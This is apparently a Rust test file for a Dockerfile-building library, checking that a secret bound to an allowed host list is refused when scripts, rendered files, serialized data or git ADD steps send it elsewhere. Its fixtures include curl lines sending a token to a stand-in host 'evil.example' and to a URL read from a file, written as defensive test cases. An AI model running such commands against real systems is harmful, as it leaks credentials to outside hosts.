//! `Secret::only_to`: a host that is not in the list is refused by the builder, in the rendered file, and when data is read back.

use dockerfile_dsl::{Dockerfile, Rule, Script, Secret, Stage, import};

const TOKEN: Secret = Secret::env("TOKEN").only_to(&["api.example.com"]);

fn file(script: &str, secret: &Secret) -> Result<Dockerfile, dockerfile_dsl::Error> {
    let mut stage = Stage::from_image("debian:12");
    stage.run(Script::parse(script, &[("token", secret)])?);
    Dockerfile::from_stage(&stage.build())
}

const NOTE: &str = "# dockerfile-dsl: only-to=TOKEN hosts=\"api.example.com\" \
                    reason=\"declared with the secret\"";
const GOOD: &str = "curl -fsS -H @{token} https://api.example.com/x -o /srv/x";
const OTHER: &str = "curl -fsS -H @{token} https://evil.example/x -o /srv/x";
const UNKNOWN: &str = "curl -fsS -H @{token} \"$(cat /url)\" -o /srv/x";

#[test]
fn another_host_is_refused_by_the_builder() {
    assert!(file(GOOD, &TOKEN).is_ok());
    for script in [OTHER, UNKNOWN] {
        let error = file(script, &TOKEN).expect_err(script);
        assert!(
            error
                .to_string()
                .contains("which is not among the permitted hosts"),
            "{error}"
        );
        // Without a list any host is permitted.
        assert!(file(script, &Secret::env("TOKEN")).is_ok(), "{script}");
    }
}

/// The rendered file has the list, so that `check` gives it the same verdict.
#[test]
fn list_is_a_comment_of_the_rendered_file() {
    let text = file(GOOD, &TOKEN).unwrap().render();
    assert!(text.contains(NOTE), "{text}");
    let changed = text.replace("https://api.example.com", "https://evil.example");
    let rules = |text: &str| -> Vec<Rule> {
        let parsed = import::parse(text).unwrap();
        parsed.check().iter().map(|finding| finding.rule).collect()
    };
    assert_eq!(rules(&text), []);
    assert_eq!(rules(&changed), [Rule::SecretToOtherHost]);
}

/// A file that exists has to say it itself.
#[test]
fn bound_secret_needs_the_comment() {
    let text = "FROM debian\nRUN --mount=type=secret,id=TOKEN,required=true \\\n  \
                curl -H @/run/secrets/TOKEN https://api.example.com/x -o /srv/x\n";
    let bind = |text: &str| import::parse(text).unwrap().bind(&[TOKEN]);
    let error = bind(text).expect_err("it has no comment").to_string();
    assert!(error.contains(NOTE), "{error}");
    assert!(bind(&format!("\n{NOTE}\n{text}")).is_ok());
}

#[test]
fn two_lists_for_one_secret_are_refused() {
    let other = Secret::env("TOKEN").only_to(&["evil.example"]);
    let mut stage = Stage::from_image("debian:12");
    stage.run(Script::parse(GOOD, &[("token", &TOKEN)]).unwrap());
    stage.run(Script::parse(OTHER, &[("token", &other)]).unwrap());
    let error = Dockerfile::from_stage(&stage.build()).expect_err("two lists");
    assert!(error.to_string().contains("two lists of hosts"), "{error}");
}

#[test]
fn list_survives_as_data() {
    let written = serde_json::to_string(&file(GOOD, &TOKEN).unwrap()).unwrap();
    let read: Dockerfile = serde_json::from_str(&written).unwrap();
    assert_eq!(serde_json::to_string(&read).unwrap(), written);
    let changed = written.replace("https://api.example.com", "https://evil.example");
    assert!(serde_json::from_str::<Dockerfile>(&changed).is_err());
}

/// The audit lists the decision.
#[test]
fn list_is_in_the_audit() {
    let audit = file(GOOD, &TOKEN).unwrap().audit().to_string();
    assert!(audit.contains("api.example.com"), "{audit}");
}

/// BuildKit sends the token of `ADD` to the host of the repository.
#[test]
fn host_of_add_is_checked() {
    let file = |repository: &str| {
        let mut stage = Stage::from_image("debian:12");
        stage.add_git(repository).token(TOKEN).to("/app");
        Dockerfile::from_stage(&stage.build())
    };
    assert!(file("https://api.example.com/a/b.git").is_ok());
    let error = file("https://evil.example/a/b.git").expect_err("another host");
    assert!(
        error.to_string().contains("is sent by ADD to evil.example"),
        "{error}"
    );
}

/// Secrets of two modules with one name: the macro does not take the list of one for that of the other, the builder knows it.
#[test]
fn list_of_another_constant_of_that_name_is_not_taken() {
    mod other {
        pub(super) const TOKEN: dockerfile_dsl::Secret = dockerfile_dsl::Secret::env("TOKEN");

        pub(super) fn script() -> dockerfile_dsl::Script {
            dockerfile_dsl::sh!("curl -fsS -H @{TOKEN} https://other.example/x -o /srv/x")
        }
    }
    let file = |script| {
        let mut stage = Stage::from_image("debian:12");
        stage.run(script);
        Dockerfile::from_stage(&stage.build())
    };
    assert!(file(other::script()).is_ok());
    let script = dockerfile_dsl::sh!("curl -fsS -H @{TOKEN} https://other.example/x -o /srv/x");
    let error = file(script).expect_err("another host").to_string();
    assert!(
        error.contains("which is not among the permitted hosts"),
        "{error}"
    );
}
